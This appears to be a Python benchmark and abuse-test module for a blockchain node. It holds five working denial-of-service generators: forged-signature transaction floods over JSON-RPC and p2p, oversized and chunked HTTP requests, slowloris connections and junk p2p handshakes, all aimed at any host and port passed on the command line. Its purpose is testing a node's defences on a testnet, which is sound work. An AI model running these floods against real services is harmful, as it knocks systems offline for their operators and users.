"""Flood generators: attack tools for the abuse tests and benchmarks (never node code).

Each generator runs until it is cancelled, from one address, against one node, and counts what it
did and what the node answered in a :class:`Tally` (``sent`` and ``refused``, and details):

- ``forged_rpc``: ``send_transaction`` calls whose sender signature does not verify, over
  ``connections`` keep-alive connections as fast as the node answers; every other request a
  batch of :data:`RPC_BATCH` calls. Refused: answered 429 / JSON-RPC -32005 (a limit) or
  -32000 (the signature); ``accepted`` counts any that were not (there must be none);
- ``forged_p2p``: the same transactions over p2p, from a peer that completes the handshake with
  a throwaway node key and sends them in writes of :data:`P2P_WRITE` frames as fast as the
  connection takes them. When the node drops the connection it comes back with a fresh key
  (a tenth of a second later per connection, so this stays a transaction flood, not a
  connection flood: that is ``junk_p2p``). Refused: connections dropped after the handshake and
  handshakes that fail (the address banned);
- ``oversized_http``: requests over the body limit (declared in ``content-length`` on both RPC
  paths, or sent chunked until the node stops reading), bodies just under the limit, and heads
  of :data:`HUGE_HEAD` bytes of headers. Refused: 413, 431, 429 and connections closed unanswered;
- ``slow_loris``: ``connections`` connections at once that dribble a request a byte every
  :data:`DRIBBLE` seconds, half of them in the headers and half in a body that never ends (each
  replaced when the node closes it). Refused: connections answered 429/503 at once or closed
  without an answer;
- ``junk_p2p``: ``sockets`` connections at once to the p2p port, each garbage that breaks the
  handshake at once (:func:`garbage`), the first message of a handshake that never goes on, or
  nothing at all, held until the node closes it and then opened again. Refused: every connection
  the node closes.

``python -m bench.floods GENERATOR… --rpc HOST:PORT --p2p HOST:PORT --chain-id ID --seconds S``
runs the named generators (:data:`GENERATORS`) at once and prints their tallies as one JSON line.
``tests/test_floods.py`` runs it on an outside host of a testnet in network namespaces (an address
of its own) against one node.

The HTTP side writes its requests by hand (it must send what no client library would) and reads
answers with a minimal reader: a status line, headers, a ``content-length`` body, which is all
the node sends.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from typing import Any

import msgspec
import trio
from noise.connection import Keypair, NoiseConnection

from bench.forged import transactions
from consensus.messages import TxMessage
from p2p.host import DATA
from p2p.secure import NOISE_PROTOCOL, PROLOGUE, HandshakeFailed, handshake
from state.crypto import ed25519
from state.encoding import encode
from state.events import Transaction
from state.types import AccountKey, Nonce

RPC_BATCH = 50
"""Calls in a batch (the node's most)."""
P2P_WRITE = 256
"""Frames per write of the p2p forger."""
MAX_BODY = 1024 * 1024
STORAGE_MAX_BODY = 10 * 1024 * 1024
HUGE_HEAD = 64 * 1024
DRIBBLE = 0.5
ANSWER_TIMEOUT = 30.0
RECONNECT_PAUSE = 0.1
CONNECT_TIMEOUT = 10.0
CLOSED = (trio.BrokenResourceError, trio.ClosedResourceError, OSError)

Address = tuple[str, int]


class Tally(Counter[str]):
    """What a generator did: ``sent`` and ``refused``, and finer counts by name."""


class Closed(Exception):
    """The node closed the connection before a whole answer."""


# -- forged transactions ----------------------------------------------------------------------------


class Forgeries:
    """Distinct transactions whose sender signature does not verify: a transfer and a registration
    (with valid node-key proofs, the expensive kind to check in the wrong order) signed once by a
    throwaway key, then given a new sender each with the signature kept: nonce 1 is each
    sender's next, so each is new to the node's duplicate filter, passes the nonce check the
    mempool makes first, and costs it a whole signature check."""

    def __init__(self, chain_id: str) -> None:
        key = ed25519.SigningKey(os.urandom(32))
        self.templates = [transactions(chain_id, key)[name] for name in ("transfer", "registration")]
        self.prefix = os.urandom(24)
        self.count = 0

    def __iter__(self) -> Iterator[Transaction]:
        return self

    def __next__(self) -> Transaction:
        self.count += 1
        template = self.templates[self.count % len(self.templates)]
        sender = AccountKey(self.prefix + self.count.to_bytes(8, "big"))
        return msgspec.structs.replace(template, sender=sender, nonce=Nonce(1))


def send_transaction_call(tx: Transaction, call_id: int) -> dict[str, Any]:
    return {
        "jsonrpc": "2.0",
        "id": call_id,
        "method": "send_transaction",
        "params": {"tx_as_hex": encode(tx).hex()},
    }


# -- a minimal HTTP/1.1 client ------------------------------------------------------------------------


def post(path: str, body: bytes, host: str = "node", length: int | None = None) -> bytes:
    """A POST of ``body``, its length declared as ``length`` (default: the body's)."""
    head = [f"POST {path} HTTP/1.1", f"Host: {host}", "Content-Type: application/json"]
    head.append(f"Content-Length: {len(body) if length is None else length}")
    return ("\r\n".join(head) + "\r\n\r\n").encode() + body


class Answers:
    """Reads the node's answers off one connection: status and body, one after the other."""

    def __init__(self, stream: trio.SocketStream) -> None:
        self.stream = stream
        self.buffer = bytearray()

    async def _more(self) -> None:
        data = await self.stream.receive_some(65536)
        if not data:
            raise Closed
        self.buffer += data

    async def next(self) -> tuple[int, bytes]:
        with trio.fail_after(ANSWER_TIMEOUT):
            while (end := self.buffer.find(b"\r\n\r\n")) < 0:
                await self._more()
            head = bytes(self.buffer[:end]).decode("latin-1").split("\r\n")
            status = int(head[0].split(" ", 2)[1])
            length = 0
            for line in head[1:]:
                name, _, value = line.partition(":")
                if name.strip().lower() == "content-length":
                    length = int(value.strip())
            while len(self.buffer) < end + 4 + length:
                await self._more()
            body = bytes(self.buffer[end + 4 : end + 4 + length])
            del self.buffer[: end + 4 + length]
            return status, body


async def answer_status(stream: trio.SocketStream) -> int | None:
    """The status of the node's answer; None when it closed the connection without one."""
    try:
        status, _ = await Answers(stream).next()
    except (*CLOSED, Closed, trio.TooSlowError):
        return None
    return status


async def connect(target: Address, tally: Tally) -> trio.SocketStream | None:
    """A connection to ``target``; None (counted, after a short pause) when it cannot be made."""
    try:
        with trio.fail_after(CONNECT_TIMEOUT):
            return await trio.open_tcp_stream(*target)
    except (OSError, trio.TooSlowError):
        tally["connect_failed"] += 1
        await trio.sleep(RECONNECT_PAUSE)
        return None


async def closed_by_node(stream: trio.SocketStream, timeout: float = ANSWER_TIMEOUT) -> bytes | None:
    """Wait for the node to close ``stream``; what it sent first (None: still open at the timeout)."""
    received = bytearray()
    with trio.move_on_after(timeout):
        try:
            while data := await stream.receive_some(65536):
                received += data
        except CLOSED:
            pass
        return bytes(received)
    return None


# -- (a) forged transactions by JSON-RPC and p2p --------------------------------------------------------


def count_rpc_answer(tally: Tally, status: int, body: bytes, calls: int) -> None:
    """Sort one answer's calls: limited (429 / -32005), rejected (-32000), accepted (a result)."""
    if status == 429:  # refused whole, before it was read: every call of it
        tally["limited"] += calls
        tally["refused"] += calls
        return
    try:
        answers = json.loads(body)
    except ValueError:
        tally[f"http_{status}"] += calls
        return
    for answer in answers if isinstance(answers, list) else [answers]:
        code = answer.get("error", {}).get("code") if isinstance(answer, dict) else None
        if code == -32005:
            tally["limited"] += 1
            tally["refused"] += 1
        elif code == -32000:
            tally["rejected"] += 1
            tally["refused"] += 1
        elif code is None:
            tally["accepted"] += 1
        else:
            tally[f"error_{code}"] += 1


async def forged_rpc(target: Address, chain_id: str, tally: Tally, connections: int = 16) -> None:
    forgeries = Forgeries(chain_id)

    async def one_connection() -> None:
        while True:
            stream = await connect(target, tally)
            if stream is None:
                continue
            answers = Answers(stream)
            try:
                for number in range(1, 1 << 62):
                    calls = RPC_BATCH if number % 2 == 0 else 1
                    batch = [send_transaction_call(next(forgeries), n) for n in range(calls)]
                    body = json.dumps(batch if calls > 1 else batch[0]).encode()
                    await stream.send_all(post("/json_rpc", body, target[0]))
                    tally["sent"] += calls
                    count_rpc_answer(tally, *await answers.next(), calls)
            except (*CLOSED, Closed, trio.TooSlowError):
                tally["closed"] += 1
            finally:
                await trio.aclose_forcefully(stream)

    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(one_connection)


async def forged_p2p(target: Address, chain_id: str, tally: Tally, connections: int = 4) -> None:
    forgeries = Forgeries(chain_id)

    async def one_connection() -> None:
        while True:
            stream = await connect(target, tally)
            if stream is None:
                continue
            try:
                with trio.fail_after(10):
                    channel = await handshake(
                        stream,
                        ed25519.SigningKey(os.urandom(32)),  # a throwaway node key each time
                        chain_id=chain_id,
                        initiator=True,
                        version="floods",
                    )
            except (HandshakeFailed, trio.TooSlowError, *CLOSED):
                tally["handshake_refused"] += 1
                tally["refused"] += 1
                await trio.aclose_forcefully(stream)
                await trio.sleep(RECONNECT_PAUSE)
                continue
            tally["handshakes"] += 1
            try:
                while True:
                    frames = [DATA + encode(TxMessage(next(forgeries))) for _ in range(P2P_WRITE)]
                    await channel.send(frames)
                    tally["sent"] += len(frames)
            except CLOSED:
                tally["dropped"] += 1
                tally["refused"] += 1
            finally:
                await trio.aclose_forcefully(stream)
            await trio.sleep(RECONNECT_PAUSE)

    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(one_connection)


# -- (b) oversized and slow HTTP requests ----------------------------------------------------------------


def _oversized_requests(host: str) -> list[tuple[str, bytes, bytes]]:
    """(name, head-and-whatever-body, chunk repeated after it): each over a limit, or just under."""
    chunk = b"%x\r\n%s\r\n" % (256 * 1024, b"x" * 256 * 1024)
    huge_head = "\r\n".join(f"X-Padding-{n}: {'y' * 1000}" for n in range(HUGE_HEAD // 1000))
    near_limit = json.dumps(
        {"jsonrpc": "2.0", "id": 1, "method": "get_info", "params": {"pad": "z" * (MAX_BODY - 200)}}
    ).encode()
    return [
        (
            "declared_json",
            post("/json_rpc", b"", host, MAX_BODY + 1),
            b"",
        ),
        (
            "declared_storage",
            post("/storage_rpc/v1", b"", host, STORAGE_MAX_BODY + 1),
            b"",
        ),
        (
            "chunked",
            f"POST /json_rpc HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
            chunk,
        ),
        ("huge_head", f"POST /json_rpc HTTP/1.1\r\nHost: {host}\r\n{huge_head}\r\n\r\n".encode(), b""),
        ("near_limit", post("/json_rpc", near_limit, host), b""),
    ]


async def oversized_http(target: Address, tally: Tally, connections: int = 8) -> None:
    requests = _oversized_requests(target[0])

    async def send(stream: trio.SocketStream, head: bytes, chunk: bytes) -> None:
        try:
            await stream.send_all(head)
            while chunk:  # until the node stops reading (it answered 413 and closed)
                await stream.send_all(chunk)
        except CLOSED:
            return

    async def one_connection(offset: int) -> None:
        for number in range(offset, 1 << 62):
            name, head, chunk = requests[number % len(requests)]
            stream = await connect(target, tally)
            if stream is None:
                continue
            tally["sent"] += 1
            tally[name] += 1
            try:
                async with trio.open_nursery() as nursery:
                    nursery.start_soon(send, stream, head, chunk)
                    status = await answer_status(stream)
                    nursery.cancel_scope.cancel()
            finally:
                await trio.aclose_forcefully(stream)
            tally["closed" if status is None else f"http_{status}"] += 1
            if status != 200:
                tally["refused"] += 1

    async with trio.open_nursery() as nursery:
        for offset in range(connections):
            nursery.start_soon(one_connection, offset)


async def slow_loris(target: Address, tally: Tally, connections: int = 48) -> None:
    host = target[0]
    slow_head = f"POST /json_rpc HTTP/1.1\r\nHost: {host}\r\n".encode() + b"X-Slow: " + b"s" * 100_000
    body = b"{" + b" " * 100_000
    slow_body = post("/json_rpc", body, host)[: -len(body) + 1]  # the head, then one byte of the body

    async def dribble(stream: trio.SocketStream, first: bytes, rest: bytes) -> None:
        try:
            await stream.send_all(first)
            for byte in rest:
                await trio.sleep(DRIBBLE)
                await stream.send_all(bytes([byte]))
        except CLOSED:
            return
        await trio.sleep_forever()

    async def one_connection(in_body: bool) -> None:
        while True:
            stream = await connect(target, tally)
            if stream is None:
                continue
            tally["sent"] += 1
            first, rest = (slow_body, b" " * 100_000) if in_body else (slow_head[:1], slow_head[1:])
            try:
                async with trio.open_nursery() as nursery:
                    nursery.start_soon(dribble, stream, first, rest)
                    answer = await closed_by_node(stream, timeout=1e9)
                    nursery.cancel_scope.cancel()
            finally:
                await trio.aclose_forcefully(stream)
            tally["refused"] += 1
            tally["answered_then_closed" if answer else "closed_unanswered"] += 1

    async with trio.open_nursery() as nursery:
        for number in range(connections):
            nursery.start_soon(one_connection, number % 2 == 1)


# -- (c) junk p2p connections -------------------------------------------------------------------------------


def garbage() -> bytes:
    """Bytes that break a handshake at once: a first record too short to hold a key (random
    bytes alone would mostly announce a record longer than what follows, and the node would wait
    for the rest until its handshake deadline), then more random bytes."""
    size = 1 + os.urandom(1)[0] % 31
    return size.to_bytes(2, "big") + os.urandom(size) + os.urandom(4096)


def first_handshake_message(chain_id: str) -> bytes:
    """The opening record of a Noise XX handshake as a dialer sends it (length, then ``e``)."""
    noise = NoiseConnection.from_name(NOISE_PROTOCOL)
    noise.set_as_initiator()
    noise.set_keypair_from_private_bytes(Keypair.STATIC, os.urandom(32))
    noise.set_prologue(PROLOGUE + b"\x00" + chain_id.encode())
    noise.start_handshake()
    message: bytes = noise.write_message()
    return len(message).to_bytes(2, "big") + message


async def junk_p2p(target: Address, chain_id: str, tally: Tally, sockets: int = 64) -> None:
    kinds: list[tuple[str, Callable[[], bytes]]] = [
        ("garbage", garbage),
        ("half_handshake", lambda: first_handshake_message(chain_id)),
        ("silent", lambda: b""),
    ]

    async def one_socket(name: str, opening: Callable[[], bytes]) -> None:
        while True:
            stream = await connect(target, tally)
            if stream is None:
                continue
            tally["sent"] += 1
            tally[name] += 1
            try:
                if data := opening():
                    await stream.send_all(data)
                await closed_by_node(stream, timeout=1e9)
            except CLOSED:
                pass
            finally:
                await trio.aclose_forcefully(stream)
            tally["refused"] += 1

    async with trio.open_nursery() as nursery:
        for number in range(sockets):
            nursery.start_soon(one_socket, *kinds[number % len(kinds)])


# -- floods: generators run together ----------------------------------------------------------------------


@dataclass(frozen=True)
class Targets:
    rpc: Address
    p2p: Address
    chain_id: str


Generator = Callable[[Targets, Tally], Awaitable[None]]
GENERATORS: dict[str, Generator] = {
    "forged_rpc": lambda t, tally: forged_rpc(t.rpc, t.chain_id, tally),
    "forged_p2p": lambda t, tally: forged_p2p(t.p2p, t.chain_id, tally),
    "oversized_http": lambda t, tally: oversized_http(t.rpc, tally),
    "slow_loris": lambda t, tally: slow_loris(t.rpc, tally),
    "junk_p2p": lambda t, tally: junk_p2p(t.p2p, t.chain_id, tally),
}


async def run_flood(names: list[str], targets: Targets, seconds: float) -> dict[str, Tally]:
    """Run the generators ``names`` together for ``seconds``; their tallies."""
    tallies = {name: Tally() for name in names}
    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for name in names:
                nursery.start_soon(GENERATORS[name], targets, tallies[name])
    return tallies


def address(text: str) -> Address:
    host, _, port = text.rpartition(":")
    if not host or not port.isdigit():
        raise argparse.ArgumentTypeError(f"{text!r} is not host:port")
    return host, int(port)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("generators", nargs="+", choices=sorted(GENERATORS), metavar="GENERATOR")
    parser.add_argument("--rpc", type=address, required=True, help="the node's public HTTP port, host:port")
    parser.add_argument("--p2p", type=address, required=True, help="the node's p2p port, host:port")
    parser.add_argument("--chain-id", required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args(argv)
    targets = Targets(args.rpc, args.p2p, args.chain_id)
    tallies = trio.run(run_flood, sorted(set(args.generators)), targets, args.seconds)
    json.dump({name: dict(tally) for name, tally in tallies.items()}, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
